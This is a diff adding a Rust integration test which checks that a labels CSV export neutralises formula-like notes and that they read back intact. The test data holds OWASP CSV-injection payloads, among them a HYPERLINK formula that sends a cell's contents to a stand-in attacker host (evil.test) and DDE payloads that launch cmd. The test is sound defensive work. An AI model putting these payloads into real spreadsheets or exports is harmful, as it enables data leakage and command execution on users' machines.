@@ -555,3 +555,65 @@ async fn the_exported_file_imports_into_a_fresh_database_as_the_same_labels() {
     assert!(said.contains("line 2") || said.contains(":2"), "{said}");
     assert!(said.contains("code") && said.contains("jetlag"), "{said}");
 }
+
+/// OWASP's CSV injection list, one note per character: each comes out of the
+/// export as text (a `'` in front), and reads back as it was written.
+#[tokio::test]
+async fn notes_that_start_like_a_formula_are_exported_as_text() {
+    let server = TestServer::start_with_demo().await;
+    let notes = [
+        ("=", "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")"),
+        ("+", "+cmd|' /C calc'!A0"),
+        ("-", "-2+3+cmd|' /C calc'!A0"),
+        ("@", "@SUM(1+1)"),
+        // Notes are stored trimmed, so a leading tab or carriage return never
+        // reaches the file; what follows it is neutralised as well.
+        ("tab", "\t=1+1"),
+        ("cr", "\r@SUM(1+1)"),
+    ];
+    for (i, (name, note)) in notes.iter().enumerate() {
+        let body = json!({"id": format!("formula-000{i}"), "date": format!("2020-02-0{}", i + 1), "code": "other", "note": note});
+        assert_eq!(
+            post(&server, &server.client, "p04", &body).await.status(),
+            201,
+            "{name}"
+        );
+    }
+    let csv = server
+        .client
+        .get(server.url("/api/labels/export?format=csv"))
+        .send()
+        .await
+        .expect("request")
+        .text()
+        .await
+        .expect("body");
+    let exported =
+        forma_core::labels::read_labels("labels.csv", &csv, forma_core::labels::LabelFormat::Csv)
+            .expect("the export reads back");
+    for (name, note) in notes {
+        let stored = note.trim();
+        let written = if stored.contains(['"', ',']) {
+            format!(",\"'{}\",", stored.replace('"', "\"\""))
+        } else {
+            format!(",'{stored},")
+        };
+        assert!(csv.contains(&written), "{name}: {written} in\n{csv}");
+        assert!(
+            exported
+                .iter()
+                .any(|label| label.note.as_deref() == Some(stored)),
+            "{name} reads back as {stored}"
+        );
+    }
+    for line in csv.lines().skip(1) {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell opens as a formula: {line}"
+            );
+        }
+    }
+    let _ = server.stop().await;
+}
